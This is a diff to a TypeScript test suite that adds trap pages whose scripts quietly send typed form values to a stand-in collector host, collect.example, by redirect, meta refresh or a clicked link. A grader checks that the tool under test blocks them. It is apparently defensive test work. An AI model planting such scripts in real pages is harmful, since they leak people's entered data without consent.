@@ -102,6 +102,19 @@ const sendingLater = (how: string, act: string, why: string): Trap => ({
   fault: ({ stopped }) => (stopped?.why === why ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
 });
 
+/** Goes to another site by itself, so and so many ms after the last field. */
+const leading = (how: string, wait: number, act: string): Trap => ({
+  name: `a form that goes to another site by itself, ${how}`,
+  html: `<form id="f" action="/sent">${name}${mail}${link}</form>${script(`let t; const to = () => 'https://collect.example/?n=' + encodeURIComponent(a.value); f.addEventListener('input', () => { clearTimeout(t); t = setTimeout(() => { ${act} }, ${wait}); });`)}`,
+  waits: 1_500,
+  told: 'the page is held back, and whither it was to go is said',
+  fault({ stopped, asked }) {
+    if (asked.some((url) => url.includes('collect.example'))) return 'went there';
+    if (stopped?.why !== 'led' || stopped.to !== 'collect.example') return `stopped: ${stopped?.why} ${stopped?.to}`;
+    return stopped.given.length === 3 ? undefined : `named ${stopped.given.join()}`;
+  },
+});
+
 /** Runs as soon as the guide is there, before anybody has pressed anything. */
 const onceGuided = (act: string) =>
   script(
@@ -201,6 +214,15 @@ export const actingTraps: readonly Trap[] = [
   sendingLater('as a press of its button would', 'f.requestSubmit()', 'submitted'),
   sendingLater('without an event', 'f.submit()', 'submitted'),
   sendingLater('by an address', "history.pushState({}, '', '?q=' + a.value)", 'left'),
+  leading('a moment after the last field', 330, 'location.assign(to())'),
+  leading('a second after the last field', 1_000, 'location.assign(to())'),
+  leading(
+    'by a refresh of its head',
+    330,
+    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + to() }))",
+  ),
+  leading('by a link that it presses', 330, "Object.assign(document.createElement('a'), { href: to() }).click()"),
+  { ...sendingLater('a second later', 'setTimeout(() => f.requestSubmit(), 700)', 'submitted'), waits: 1_500 },
   sending('by an address', "history.pushState({}, '', '?q=' + a.value)", 'left'),
   sending('by a fragment', 'location.hash = a.value', 'left'),
 ];
